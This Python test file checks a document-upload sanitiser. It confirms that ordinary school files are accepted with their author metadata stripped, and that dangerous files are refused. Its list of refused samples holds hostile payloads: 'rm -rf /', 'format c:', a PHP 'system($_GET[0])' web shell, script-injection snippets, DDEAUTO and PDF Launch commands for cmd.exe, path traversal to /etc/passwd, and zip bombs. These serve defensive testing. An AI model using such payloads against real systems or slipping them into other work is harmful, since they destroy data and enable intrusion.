"""Files from anyone: what is taken, what is refused, and what is taken out of what is taken. No file here is
kept in the repository: each is made by its test."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pytest

from driehoek.base.core.documents.recognising import clean_document
from driehoek.base.core.documents.refusals import (
    ActiveDocument,
    BrokenDocument,
    DocumentRefused,
    DocumentTooLarge,
    EmptyDocument,
    LockedDocument,
    OldDocument,
    UnknownDocument,
)

SECRET = b"qxkanarieabcd"


def pdf(body: bytes = b"<</Type/Page>>", *, tail: bytes = b"", info: bytes = b"") -> bytes:
    """A small PDF with this object in it."""
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n2 0 obj\n" + body + b"\nendobj\n3 0 obj\n<<" + info
        + b">>\nendobj\nxref\n0 4\ntrailer<</Root 1 0 R/Info 3 0 R>>\nstartxref\n9\n%%EOF\n" + tail
    )  # fmt: skip


def packed(objects: bytes) -> bytes:
    """Objects inside a stream, as newer programs write them."""
    data = zlib.compress(objects)
    return b"<</Type/ObjStm/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(data), data)


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/docProps/core.xml" ContentType="x"/></Types>'
)
RELATIONS = (
    b'<Relationships><Relationship Id="r1" Type="officeDocument" Target="word/document.xml"/>'
    b'<Relationship Id="r2" Type="core" Target="docProps/core.xml"/></Relationships>'
)
WORD = {
    "[Content_Types].xml": CONTENT_TYPES,
    "_rels/.rels": RELATIONS,
    "word/document.xml": b"<w:document><w:p>Wij bouwden bruggen.</w:p></w:document>",
    "docProps/core.xml": b"<cp:coreProperties><dc:creator>" + SECRET + b"</dc:creator></cp:coreProperties>",
}
EXCEL = {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}
SLIDES = {"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": b"<p:presentation/>"}
WRITER = {
    "mimetype": b"application/vnd.oasis.opendocument.text",
    "content.xml": b"<office:document-content>Wij bouwden bruggen.</office:document-content>",
    "meta.xml": b"<meta:creator>" + SECRET + b"</meta:creator>",
    "META-INF/manifest.xml": b'<manifest:file-entry manifest:full-path="meta.xml"/>',
}


def pack(parts: dict[str, bytes], **more: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in (parts | more).items():
            made.writestr(name, part)
    return file.getvalue()


def word(**more: bytes) -> bytes:
    return pack(WORD | {name.replace("__", "/").replace("_DOT_", "."): part for name, part in more.items()})


PICTURE = (
    b'<Relationships><Relationship Id="r1" Type="http://s/relationships/image" '
    b'Target="https://kwaad.example/1.png" TargetMode="External"/></Relationships>'
)
GOOD: dict[str, tuple[bytes, str]] = {
    "a PDF": (pdf(), "pdf"),
    "a PDF with packed pages": (pdf(packed(b"4 0 <</Type/Page>>")), "pdf"),
    "a letter of Word": (pack(WORD), "docx"),
    "a letter of Word with a link": (
        pack(WORD | {"word/_rels/document.xml.rels": PICTURE.replace(b"/image", b"/hyperlink")}),
        "docx",
    ),
    "a letter of LibreOffice with a picture": (
        pack(
            WRITER
            | {"content.xml": b'<draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://a.nl"/>'}
        ),
        "odt",
    ),
    "a sheet": (pack(EXCEL), "xlsx"),
    "slides": (pack(SLIDES), "pptx"),
    "a letter of LibreOffice": (pack(WRITER), "odt"),
    "a text": (b"Beste ouders, kom je ook? Tot zo!", "txt"),
    "a text in Arabic": ("مرحبًا بكم في المدرسة".encode(), "txt"),
    "a text of an old computer": ("Wat een idee: een café".encode("cp1252"), "txt"),
    "a text in two bytes a letter": ("Beste ouders".encode("utf-16"), "txt"),
    "a list": (b"naam;brood\nFinn;ja\nYusuf;nee\n", "txt"),
    "a sum": (b"3 < 4 en 5 > 4, want a<b is waar", "txt"),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_a_school_sends_is_taken(name: str) -> None:
    data, ending = GOOD[name]
    assert clean_document(data).ending == ending


def bomb() -> bytes:
    """A few kilobytes that would become four hundred megabytes."""
    return pack(WORD | {f"word/media/{at}.xml": b"\0" * 20_000_000 for at in range(20)})


def locked_zip() -> bytes:
    data = bytearray(pack(WORD))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        data[at + flags] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """Every name points at the same bytes."""
    data = bytearray(pack(WORD))
    at = data.find(b"PK\x01\x02")
    for number in range(3):
        data[at + 20 : at + 24] = (2**30 + number).to_bytes(4, "little")
    return bytes(data)


BAD: dict[str, tuple[bytes | Callable[[], bytes], type[DocumentRefused]]] = {
    "nothing": (b"", EmptyDocument),
    "white space": (b" \n\n ", EmptyDocument),
    "too much": (lambda: b"x" * (25 * 1024 * 1024 + 1), DocumentTooLarge),
    "SVG": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", UnknownDocument),
    "SVG behind a comment": (b"<!-- foto --><svg onload='alert(1)'/>", UnknownDocument),
    "SVG in two bytes a letter": ("<svg onload='alert(1)'/>".encode("utf-16"), UnknownDocument),
    "XML": (b"<?xml version='1.0'?><x/>", UnknownDocument),
    "HTML": (b"<!DOCTYPE html><script>alert(1)</script>", UnknownDocument),
    "HTML after a sentence": (b"Beste ouders <script>alert(1)</script>", UnknownDocument),
    "an iframe in a sentence": (b"Kijk: <iframe src='//kwaad.example'></iframe>", UnknownDocument),
    "HTML with a byte mark": (b"\xef\xbb\xbf<html><body>", UnknownDocument),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", UnknownDocument),
    "a batch file": (b"@echo off\r\nformat c:\r\n", UnknownDocument),
    "PHP": (b"<?php system($_GET[0]);", UnknownDocument),
    "rich text": (b"{\\rtf1\\ansi{\\object\\objocx}}", UnknownDocument),
    "PostScript": (b"%!PS-Adobe-3.0\n", UnknownDocument),
    "a mail": (b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>x</b>", UnknownDocument),
    "a program for Windows": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 60, UnknownDocument),
    "a program for Linux": (b"\x7fELF\x02\x01\x01" + b"\0" * 60, UnknownDocument),
    "a program for Java": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34", UnknownDocument),
    "a RAR": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 60, UnknownDocument),
    "a 7z": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 60, UnknownDocument),
    "a GZIP": (b"\x1f\x8b\x08\x00" + b"\0" * 60, UnknownDocument),
    "random bytes": (bytes(range(256)) * 4, UnknownDocument),
    "an old letter of Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, OldDocument),
    "a bare zip": (pack({"brief.txt": b"x"}), UnknownDocument),
    "a Java archive": (pack({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe"}), UnknownDocument),
    "an Android app": (pack({"AndroidManifest.xml": b"x", "classes.dex": b"x"}), UnknownDocument),
    "half a zip": (pack(WORD)[:400], BrokenDocument),
    "a zip with something behind it": (pack(WORD) + b"<script>alert(1)</script>", BrokenDocument),
    "a zip in a zip's tail": (pack(WORD) + pack(EXCEL), BrokenDocument),
    "a zip with a password": (locked_zip, LockedDocument),
    "a zip that lies about its size": (overlapping, DocumentRefused),
    "a zip that becomes huge": (bomb, DocumentTooLarge),
    "a zip of very many parts": (
        lambda: pack(WORD | {f"word/{at}.xml": b"" for at in range(3001)}), DocumentTooLarge,
    ),
    "a part that climbs out": (pack(WORD | {"../../etc/passwd": b"x"}), BrokenDocument),
    "a part with a full path": (pack(WORD | {"/etc/passwd": b"x"}), BrokenDocument),
    "a part with a drive letter": (pack(WORD | {"c:evil.xml": b"x"}), BrokenDocument),
    "macros": (pack(WORD | {"word/vbaProject.bin": b"x"}), ActiveDocument),
    "macros by another name": (pack(WORD | {"word/other.bin": b"x"}), ActiveDocument),
    "macros announced": (
        pack(WORD | {"[Content_Types].xml": CONTENT_TYPES.replace(b'"x"', b'"a.macroEnabled.main+xml"')}),
        ActiveDocument,
    ),
    "an OLE object": (pack(WORD | {"word/embeddings/oleObject1.bin": b"x"}), ActiveDocument),
    "ActiveX": (pack(WORD | {"word/activeX/activeX1.xml": b"x"}), ActiveDocument),
    "a program inside": (pack(WORD | {"word/media/image1.png": b"MZ\x90"}), ActiveDocument),
    "a web page inside": (pack(WORD | {"word/afchunk.html": b"<script>"}), ActiveDocument),
    "a drawing with script inside": (pack(WORD | {"word/media/a.svg": b"<svg/>"}), ActiveDocument),
    "a template from elsewhere": (
        pack(WORD | {"word/_rels/settings.xml.rels": b'<Relationship Type="http://s/relationships/'
                     b'attachedTemplate" Target="http://kwaad.example/a.dotm" TargetMode="External"/>'}),
        ActiveDocument,
    ),
    "a picture from elsewhere": (pack(WORD | {"word/_rels/document.xml.rels": PICTURE}), ActiveDocument),
    "a picture from elsewhere in disguise": (
        pack(WORD | {"word/_rels/document.xml.rels": PICTURE.replace(b"External", b"Ext&#101;rn&#x61;l")}),
        ActiveDocument,
    ),
    "a picture from elsewhere in LibreOffice": (
        pack(WRITER | {"content.xml": b'<draw:image xlink:href="https://kwaad.example/1.png"/>'}),
        ActiveDocument,
    ),
    "entities": (pack(WORD | {"word/document.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), ActiveDocument),
    "entities in two bytes a letter": (
        pack(WORD | {"word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>".encode("utf-16-le")}),
        ActiveDocument,
    ),
    "a command in a field": (
        pack(WORD | {"word/document.xml": b'<w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>'}),
        ActiveDocument,
    ),
    "Basic of LibreOffice": (pack(WRITER | {"Basic/Standard/Module1.xml": b"<x/>"}), ActiveDocument),
    "Python of LibreOffice": (pack(WRITER | {"Scripts/python/a.py": b"x"}), ActiveDocument),
    "a locked letter of LibreOffice": (
        pack(WRITER | {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}), LockedDocument,
    ),
    "half a PDF": (pdf()[:60], BrokenDocument),
    "a PDF in name only": (b"%PDF-1.7\nhallo", BrokenDocument),
    "a PDF with a script": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), ActiveDocument),
    "a PDF with a script in disguise": (pdf(b"<</S/J#61vaScript/#4aS(app.alert(1))>>"), ActiveDocument),
    "a PDF with a packed script": (pdf(packed(b"4 0 <</S/JavaScript/JS(x)>>")), ActiveDocument),
    "a PDF that starts a program": (pdf(b"<</S/Launch/F(cmd.exe)>>"), ActiveDocument),
    "a PDF with a file inside": (pdf(b"<</EmbeddedFiles<</Names[]>>>>"), ActiveDocument),
    "a PDF with actions": (pdf(b"<</AA<</O 5 0 R>>>>"), ActiveDocument),
    "a PDF form that sends": (pdf(b"<</S/SubmitForm/F(http://kwaad.example)>>"), ActiveDocument),
    "a PDF form of XML": (pdf(b"<</AcroForm<</XFA 5 0 R>>>>"), ActiveDocument),
    "a PDF with a password": (pdf(info=b"/Encrypt 5 0 R"), LockedDocument),
    "a PDF that is a zip too": (pdf(tail=pack(WORD) + b"%%EOF"), ActiveDocument),
    "a PDF that is a web page too": (pdf(b"<</X (<script>alert(1)</script>)>>"), ActiveDocument),
    "a PDF whose packed part is broken": (
        pdf(b"<</Type/ObjStm>>\nstream\nnot packed\nendstream"), BrokenDocument,
    ),
    "a PDF that becomes huge": (lambda: pdf(packed(b" " * (65 * 1024 * 1024))), BrokenDocument),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_what_could_do_harm_is_refused_with_a_sentence(name: str) -> None:
    data, why = BAD[name]
    with pytest.raises(why) as refused:
        clean_document(data() if callable(data) else data)
    assert str(refused.value.sentence).endswith(".")


def test_there_are_many_ways_to_do_harm() -> None:
    assert len(BAD) >= 60


@pytest.mark.parametrize("name", ["a letter of Word", "a letter of LibreOffice"])
def test_an_office_file_forgets_who_made_it_and_still_opens(name: str) -> None:
    clean = clean_document(GOOD[name][0]).data
    with zipfile.ZipFile(io.BytesIO(clean)) as made:
        everything = b"".join(made.read(part) for part in made.namelist())
        assert made.testzip() is None and {one.date_time[0] for one in made.infolist()} == {1980}
    assert SECRET not in everything and b"docProps" not in everything and b"meta.xml" not in everything
    assert b"Wij bouwden bruggen." in everything


def test_a_pdf_forgets_who_made_it_and_keeps_its_length() -> None:
    xmp = b"<x:xmpmeta><dc:creator>" + SECRET + b"</dc:creator></x:xmpmeta>"
    info = b"/Author(" + SECRET + b")/CreationDate(D:20261119)/Title<" + SECRET.hex().encode() + b">"
    sent = pdf(b"<</Type/Metadata>>\nstream\n" + xmp + b"\nendstream", info=info)
    kept = clean_document(sent).data
    assert len(kept) == len(sent)
    assert SECRET not in kept and SECRET.hex().encode() not in kept and b"20261119" not in kept
